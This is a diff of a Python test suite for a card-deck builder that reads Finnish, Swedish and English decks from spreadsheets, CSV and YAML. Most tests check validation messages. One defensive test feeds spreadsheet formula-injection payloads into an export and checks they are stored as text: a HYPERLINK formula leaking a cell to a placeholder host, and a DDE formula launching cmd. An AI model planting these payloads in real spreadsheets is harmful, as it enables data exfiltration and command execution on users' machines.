@@ -7,12 +7,13 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+import yaml
 
 from osallisuuspeli.cli import main
 from osallisuuspeli.load import BUILTIN_DECKS, load_deck
 from osallisuuspeli.workbook import workbook
 
-from .conftest import DECKS, LANGUAGES, snapshot
+from .conftest import DECKS, LANGUAGES, first_cards, snapshot
 from .pdfcheck import squeeze, text_of
 
 
@@ -107,7 +108,7 @@ BAD = {  # the mistake, as made in a spreadsheet -> the one line it gives
     ),
     "wrong colour": (
         lambda b: b["Themes"].__setitem__("B3", "sininen"),
-        "sheet Themes, row 3, column colour: colour 'sininen' must be written as #RRGGBB, e.g. \"#0072C6\" (in quotes)",
+        "sheet Themes, row 3, column colour: colour 'sininen' must be written as #RRGGBB, e.g. #0072C6",  # no YAML quotes in a cell
     ),
     "a language column missing": (
         lambda b: b["Themes"].delete_cols(8),
@@ -183,3 +184,292 @@ def test_sheet_names_in_finnish_or_swedish_are_read_too(books, decks, tmp_path):
 
     edit(path, rename)
     assert load_deck(path, "sv")._replace(source=None) == decks["helsinki", "sv"]._replace(source=None)
+
+
+def kunta_book(books, tmp_path: Path, change=None, name: str = "deck.xlsx") -> Path:
+    path = tmp_path / name
+    path.write_bytes(books["kunta"].read_bytes())
+    if change is not None:
+        edit(path, change)
+    return path
+
+
+def test_a_misspelt_header_is_named_with_the_closest_known_one(runner, books, tmp_path):
+    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("E1", "descrption_sv"))
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out")])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, column E: 'descrption_sv' is not a column of this sheet; did you mean 'description_sv'?\n",
+    )
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_misspelt_title_column_is_an_error_not_a_language_dropped(runner, books, tmp_path):
+    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("D1", "titel_sv"))
+    result = runner.invoke(main, ["validate", str(path)])
+    assert result.exit_code == 2
+    assert result.stderr.splitlines()[:2] == [
+        f"osallisuuspeli: {path}, sheet Cards, column D: 'titel_sv' is not a column of this sheet; did you mean 'title_sv'?",
+        f"osallisuuspeli: {path}, sheet Cards, column E: 'description_sv' is a column of the language 'sv', but the sheet Cards has no column title_sv: add that column, or delete this one",
+    ]
+
+
+def test_header_case_and_surrounding_spaces_do_not_matter(books, decks, tmp_path):
+    def shout(book):
+        book["Cards"]["B1"] = " Title_FI "
+        book["Texts"]["B1"] = "FI"
+
+    path = kunta_book(books, tmp_path, shout)
+    assert load_deck(path, "fi")._replace(source=None) == decks["kunta", "fi"]._replace(source=None)
+
+
+def test_a_header_twice_is_an_error(runner, books, tmp_path):
+    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("H1", "title_fi"))
+    result = runner.invoke(main, ["validate", str(path)])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, column H: 'title_fi' is there twice (also column B): keep one\n",
+    )
+
+
+def test_a_blank_description_beside_the_reference_languages_is_a_warning_and_strict_an_error(runner, books, tmp_path):
+    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("G4", None))  # description_en of the third card
+    result = runner.invoke(main, ["validate", str(path)])
+    warning = (
+        f"osallisuuspeli: warning: {path}, sheet Cards, row 4, column description_en: card 'avoimen-datan-hyodyntaminen' has no description in en, "
+        "though it has one in fi: its back would print without one; fill the cell\n"
+    )
+    assert (result.exit_code, result.stderr) == (0, warning)
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "en", "--strict", "--out", str(tmp_path / "out")])
+    assert (result.exit_code, result.stderr) == (2, warning.replace("warning: ", "").replace("\n", " (--strict)\n"))
+    assert not (tmp_path / "out").exists()
+
+
+def test_many_blank_descriptions_are_one_warning(runner, books, tmp_path):
+    def blank(book):
+        for row in range(2, 12):
+            book["Cards"].cell(row, 7).value = None
+
+    path = kunta_book(books, tmp_path, blank)
+    result = runner.invoke(main, ["validate", str(path)])
+    assert (result.exit_code, result.stderr) == (
+        0,
+        f"osallisuuspeli: warning: {path}, sheet Cards, row 2, column description_en: 10 cards have no description in en, though they have "
+        "one in fi (the first is 'avoimien-ovien-paivat'): their backs would print without one; fill the column's cells\n",
+    )
+
+
+def test_a_built_in_card_with_only_a_title_gives_no_warning(runner):
+    result = runner.invoke(main, ["validate", "helsinki"])
+    assert (result.exit_code, result.stderr) == (0, "")
+
+
+@pytest.mark.parametrize("sheet", ["Instructions", "Deck", "Texts", "Themes"])
+def test_a_csv_saved_from_another_sheet_says_which_sheet_to_save(runner, books, tmp_path, sheet):
+    book = openpyxl.load_workbook(books["helsinki"])
+    rows = [[("" if v is None else str(v)) for v in row] for row in book[sheet].iter_rows(values_only=True)]
+    path = tmp_path / "deck.csv"
+    path.write_text("\n".join(";".join(r) for r in rows), encoding="utf-8-sig")
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out")])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, row 1: this is the sheet {sheet} saved as CSV, not the sheet Cards (Excel saves only the sheet that is open): "
+        "open the sheet Cards, save it as CSV again and build from that file, or build from the .xlsx itself\n",
+    )
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize(
+    "suffix,sentence",
+    [
+        (
+            ".ods",
+            "an OpenDocument spreadsheet (.ods); save it as .xlsx (LibreOffice: File › Save As, file type Excel 2007-365) and build from that file",
+        ),
+        (
+            ".xls",
+            "an Excel 97-2003 workbook (.xls); save it as .xlsx (Excel: File › Save As › Excel Workbook; LibreOffice: File › Save As, file type Excel 2007-365) and build from that file",
+        ),
+    ],
+)
+def test_an_ods_or_xls_file_is_named_for_what_it_is(runner, tmp_path, suffix, sentence):
+    path = tmp_path / f"pakka{suffix}"
+    path.write_bytes(b"PK\x03\x04 a spreadsheet")
+    for command in (["build", "--deck", str(path), "--out", str(tmp_path / "out")], ["validate", str(path)]):
+        result = runner.invoke(main, command)
+        assert (result.exit_code, result.stderr) == (2, f"osallisuuspeli: {path}: {sentence}\n")
+
+
+def test_a_workbook_open_in_excel_is_a_warning_that_unsaved_changes_are_not_in_the_kit(runner, books, tmp_path):
+    path = kunta_book(books, tmp_path)
+    (tmp_path / "~$deck.xlsx").write_bytes(b"\x00owner")
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out"), "-q"])
+    assert (result.exit_code, result.stderr) == (
+        0,
+        f"osallisuuspeli: warning: {path}: the workbook is open in Excel or LibreOffice: changes not yet saved there are not in this kit; "
+        "save the workbook and build again\n",
+    )
+
+
+def test_a_space_in_an_id_is_named_by_sheet_row_and_column(runner, books, tmp_path):
+    def spaces(book):
+        book["Cards"]["A3"] = "asukasillat\u00a0"  # around it: cannot be seen, so it is dropped
+        book["Cards"]["A4"] = "avoin kunta"  # inside it: named
+
+    path = kunta_book(books, tmp_path, spaces)
+    result = runner.invoke(main, ["validate", str(path)])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, row 4, column id: card id 'avoin kunta' has a space in it; write - between its words ('avoin-kunta')\n",
+    )
+
+
+def with_cards_sheet(books, tmp_path: Path, rows: int, columns: int) -> Path:
+    """The municipal workbook with its Cards sheet (sheet3.xml) replaced by one
+    of `rows` rows and `columns` columns, each cell a text, as a generator made it."""
+    import zipfile
+
+    from openpyxl.utils import get_column_letter
+
+    letters = [get_column_letter(i + 1) for i in range(columns)]
+    header = ["id", "title_fi", "description_fi", "title_sv", "description_sv", "title_en", "description_en"]
+    header += [f"x{i}" for i in range(len(header), columns)]
+
+    def row(r: int, values: list[str]) -> str:
+        cells = "".join(f'<c r="{letters[i]}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
+        return f'<row r="{r}">{cells}</row>'
+
+    body = [row(1, header[:columns])] + [row(r, [f"kortti-{r}", f"Kortti {r}", "Kuvaus"][:columns]) for r in range(2, rows + 1)]
+    sheet = (
+        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        f'<dimension ref="A1:{letters[-1]}{rows}"/><sheetData>{"".join(body)}</sheetData></worksheet>'
+    )
+    path = tmp_path / "big.xlsx"
+    with zipfile.ZipFile(books["kunta"]) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = sheet.encode() if info.filename == "xl/worksheets/sheet3.xml" else source.read(info)
+            target.writestr(info, data, zipfile.ZIP_DEFLATED)
+    return path
+
+
+def test_a_cards_sheet_of_100000_rows_is_refused_before_its_rows_are_read(runner, books, tmp_path):
+    path = with_cards_sheet(books, tmp_path, 100_001, 7)
+    assert openpyxl.load_workbook(path, read_only=True)["Cards"].max_row == 100_001
+    for command in (["validate", str(path)], ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out")]):
+        result = runner.invoke(main, command)
+        assert (result.exit_code, result.stderr) == (
+            2,
+            f"osallisuuspeli: {path}, sheet Cards, row 1,002: the sheet has 100,001 rows; a deck has at most 1,000 cards: delete the rows from 1,002 down\n",
+        )
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_sheet_of_16384_columns_is_refused_before_its_rows_are_read(runner, books, tmp_path):
+    path = with_cards_sheet(books, tmp_path, 41, 16_384)
+    result = runner.invoke(main, ["validate", str(path)])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, column CW: the sheet has 16,384 columns; a deck's sheet has at most 100: delete the columns from CW onwards\n",
+    )
+
+
+def test_a_yaml_deck_of_more_than_1000_cards_is_refused_before_its_cards_are_read(runner, deck_copy):
+    (deck_copy / "deck.yaml").write_text(
+        "id: iso\ncolour: '#008741'\ncards:\n" + "".join(f"  - kortti-{i}\n" for i in range(1001)), encoding="utf-8"
+    )
+    result = runner.invoke(main, ["validate", str(deck_copy)])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {deck_copy}/deck.yaml:3: the deck has 1,001 cards; a deck has at most 1,000\n",
+    )
+
+
+def test_a_card_list_of_more_than_1000_rows_is_refused(runner, tmp_path):
+    path = tmp_path / "kortit.csv"
+    path.write_text("id;title_fi\n" + "".join(f"k{i};Kortti {i}\n" for i in range(1001)), encoding="utf-8")
+    result = runner.invoke(main, ["validate", str(path)])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, row 1,002: the file has 1,001 cards; a deck has at most 1,000: delete the rows from 1,002 down\n",
+    )
+
+
+def test_lang_all_with_one_language_incomplete_names_it_and_how_to_build_the_others(runner, books, tmp_path):
+    def half_english(book):
+        for row in (3, 5):
+            book["Cards"].cell(row, 6).value = None  # title_en
+
+    path = kunta_book(books, tmp_path, half_english)
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out")])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, row 3, column title_en: title of card 'avoin-valmistelu' is empty\n"
+        f"osallisuuspeli: {path}, sheet Cards, row 5, column title_en: title of card 'avustukset-ja-kannustimet' is empty\n"
+        "osallisuuspeli: the language 'en' is not complete: fill the cells above\n"
+        f"osallisuuspeli: to build the complete ones now: osallisuuspeli build --deck {path} --lang fi,sv\n",
+    )
+    assert not (tmp_path / "out").exists()
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "FI, sv", "--out", str(tmp_path / "out"), "-q"])
+    assert result.exit_code == 0, result.output
+    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["fi", "sv"]
+
+
+def test_lang_in_capitals_is_the_language(runner, tmp_path):
+    result = runner.invoke(main, ["build", "--deck", "kunta", "--lang", "SV", "--out", str(tmp_path), "-q"])
+    assert result.exit_code == 0, result.output
+    assert [p.name for p in tmp_path.iterdir()] == ["sv"]
+
+
+CRAFTED = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=2+2",
+    '=DDE("cmd";"/C calc";"A0")',
+]  # (a | would be the workbook's break mark)
+
+
+def test_export_writes_every_text_as_text_never_a_formula(runner, tmp_path):
+    """OWASP CSV injection: texts that start like a formula are string cells and read back unchanged."""
+    deck = first_cards("kunta", tmp_path / "deck", 8)
+    texts = yaml.safe_load((deck / "fi.yaml").read_text(encoding="utf-8"))
+    for card, crafted in zip(texts["cards"].values(), CRAFTED):
+        card["description"] = crafted
+    texts["name"] = "=1+2"
+    (deck / "fi.yaml").write_text(yaml.safe_dump(texts, allow_unicode=True), encoding="utf-8")
+    out = tmp_path / "deck.xlsx"
+    result = runner.invoke(main, ["export", str(deck), str(out)])
+    assert result.exit_code == 0, result.output
+    book = openpyxl.load_workbook(out)
+    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    cards = {c.value: c for c in book["Cards"]["C"]}  # description_fi (the municipal deck has no theme column)
+    assert all(cards[t].data_type == "s" for t in CRAFTED if not t.startswith(("\t", "\r")))
+    assert cards[CRAFTED[0]].quotePrefix is True
+    read = load_deck(out, "fi")
+    # the tool's own reader gives back what was written (its texts trimmed of leading tabs and line breaks, as YAML's are)
+    assert [c.description for c in read.cards[: len(CRAFTED)]] == [load_deck(deck, "fi").cards[i].description for i in range(len(CRAFTED))]
+    assert read.name == "=1+2"
+
+
+def test_a_text_that_does_not_fit_is_named_by_sheet_row_and_column(runner, books, tmp_path):
+    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("E3", "Sana " * 400))
+    result = runner.invoke(main, ["validate", str(path)])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, row 3, column description_sv: card 2 'Öppen beredning' (avoin-valmistelu), detail side: "
+        f'the text does not fit even at 7 pt: "{"Sana " * 16}" - shorten it or choose a larger --card-size\n',
+    )
+
+
+def test_a_glyph_the_font_lacks_is_named_by_sheet_row_and_column(runner, books, tmp_path):
+    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("D5", "Kort \u0531"))
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "sv", "--out", str(tmp_path / "out")])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, row 5, column title_sv: card 4 'Kort \u0531' (avustukset-ja-kannustimet), title side: "
+        "the font has no glyph for '\u0531' (U+0531) in \"Kort \u0531\"\n",
+    )
+    assert not (tmp_path / "out").exists()
